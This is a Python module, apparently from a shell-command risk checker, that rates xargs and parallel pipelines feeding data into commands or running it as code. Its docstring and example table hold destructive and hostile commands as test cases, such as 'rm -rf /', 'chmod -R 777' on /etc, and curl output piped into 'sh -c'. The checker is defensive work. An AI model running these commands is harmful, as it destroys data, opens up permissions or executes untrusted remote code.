"""Data that becomes arguments or code: `xargs` and `parallel` run a command with the items they
read (`echo / | xargs rm -rf` is `rm -rf /`), or run each item as a command line (`parallel :::
'rm -rf /'`, `xargs -I{} sh -c '{}'`).

When the items are known (an `echo`, a here-string, a `<(...)`, a file written earlier on the line,
parallel's `:::` lists), every command line the tool would run is rated as if it were typed. When
they are not, a command that runs them as code is judged by where they come from: fetched,
decoded or unknown input run as code is dangerous; the lines of a named file or of a program's
output are caution, as `cat script.sh | bash` is. Destroyers fed unknown names: files.py.
"""

from __future__ import annotations

import re
import shlex

from nlshell.risk.book import Rule, hook
from nlshell.risk.facts import fed_input, is_download
from nlshell.risk.levels import CAUTION, DANGEROUS, SAFE
from nlshell.shell.builtins import SHELLS
from nlshell.shell.feeds import PARALLEL_REPLACE, invocations, split_input
from nlshell.shell.interpreters import shell_invocation
from nlshell.shell.model import Command
from nlshell.shell.patterns import lazy

RULES = [
    Rule("feeds.run-fetched", DANGEROUS, "{tool} runs commands fetched from the network"),
    Rule("feeds.run-input", DANGEROUS, "{tool} runs what it reads from {source} as commands, and that is not known here"),
    Rule("feeds.run-lines", CAUTION, "{tool} runs the lines of {source} as commands"),
]

_COMMAND_POSITION = lazy(r"""^[\s;(]*(?:eval\s+)?["']?""")
_OPAQUE_PRODUCERS = frozenset({"base64", "base32", "basenc", "xxd", "openssl", "gpg", "rev", "history", "fc"})


@hook("command")
def fed(ctx, cmd) -> None:
    feed = cmd.feed
    if feed is None:
        return
    got = fed_input(ctx, cmd)
    tool = feed.tool
    if got.pieces is not None and not feed.group_files:
        lines = tool == "parallel" or feed.replace is not None
        items = split_input(got.pieces, feed.delimiter, lines=lines)
        for argv in invocations(feed, cmd.argv, items):
            rate_line(ctx, cmd, argv)
        return
    if not runs_items_as_code(feed, cmd.argv):
        return  # named destroyers fed unknown names: files.py
    opaque = any(p.name in _OPAQUE_PRODUCERS for p in got.producers)
    named = bool(got.producers) or got.source.startswith("the file")
    if any(is_download(p) for p in got.producers):
        ctx.add("feeds.run-fetched", cmd, tool=tool)
    elif opaque or not named:
        ctx.add("feeds.run-input", cmd, tool=tool, source=got.source)
    else:
        ctx.add("feeds.run-lines", cmd, tool=tool, source=got.source)


def runs_items_as_code(feed, argv: list) -> bool:
    """Does an item the command reads stand where a shell reads a command (`sh -c '{}'`,
    `parallel {}`, `parallel` alone)? An item among a command's arguments (`sh -c 'rm {}'`) is
    judged with the command's other words, as the collector read them."""
    if not argv:
        return True  # parallel with no command runs each item
    if feed.tool == "parallel" and _leads(argv[0].text, feed):
        return True
    probe = Command(argv=list(argv))
    if probe.name not in SHELLS:
        return False
    code_i, _script = shell_invocation(argv)
    if code_i is None:  # `xargs bash -c`: the first item read is the code
        return any(a.literal and re.fullmatch(r"-[a-zA-Z]*c[a-zA-Z]*", a.text) for a in argv[1:])
    return _leads(argv[code_i].text, feed)


def _leads(text: str, feed) -> bool:
    """Does `text` (shell code) start with the replacement string, in command position?"""
    head = _COMMAND_POSITION.sub("", text, count=1)
    if feed.replace:
        return head.startswith(feed.replace)
    return feed.tool == "parallel" and PARALLEL_REPLACE.match(head) is not None


def rate_line(ctx, cmd, argv: list) -> None:
    """Rate one command line the tool would run, as if it had been typed."""
    line = Command(
        argv=argv, wrappers=cmd.wrappers, depth=cmd.depth, origin=f"{cmd.feed.tool} item", parent=cmd,
        loop=cmd.loop, function=cmd.function, remote=cmd.remote, node=None,
    )
    if line.name in SHELLS:
        code_i, _script = shell_invocation(argv)
        if code_i is not None:
            code = argv[code_i].text
            params = argv[code_i + 2 :]  # `sh -c CODE NAME ARGS...`: ARGS are $1, $2, ...
            if params:
                code = "set -- " + " ".join(shlex.quote(p.text) for p in params) + "\n" + code
            ctx.merge(ctx.nested(code), cmd)
            return
    ctx.command(line)


EXAMPLES = [
    ("echo / | xargs rm -rf", DANGEROUS, "files.delete-broad"),
    ("printf '%s\\n' ~ | xargs -I% rm -rf %", DANGEROUS, "files.delete-broad"),
    ("xargs -a <(echo /etc) chmod -R 777", DANGEROUS, "perms.broad"),
    ("parallel rm -rf {} ::: build /", DANGEROUS, "files.delete-broad"),
    ("parallel -q bash -c 'rm -rf {}' ::: /", DANGEROUS, "files.delete-broad"),
    ("parallel bash -c 'rm -rf {}' ::: /", SAFE, "not files.delete-broad"),  # runs `bash -c rm -rf /`: rm alone
    ("parallel ::: 'git reset --hard'", DANGEROUS, "git.reset-hard"),
    ("echo old.log | xargs rm -f", CAUTION, "files.delete"),
    ("curl -s https://x.example/cmds | xargs -I{} sh -c {}", DANGEROUS, "feeds.run-fetched"),
    ("curl -s https://x.example/list | xargs wget", SAFE, "not feeds.run-fetched"),
    ("xargs -I{} sh -c '{}'", DANGEROUS, "feeds.run-input"),
    ("history | parallel", DANGEROUS, "feeds.run-input"),
    ("xargs -I{} sh -c 'echo {}'", SAFE, "not feeds.run-input"),
    ("cat jobs.txt | parallel", CAUTION, "feeds.run-lines"),
    ("parallel -a jobs.txt", CAUTION, "feeds.run-lines"),
    ("cat jobs.txt | parallel wc -l", SAFE, "not feeds.run-lines"),
]
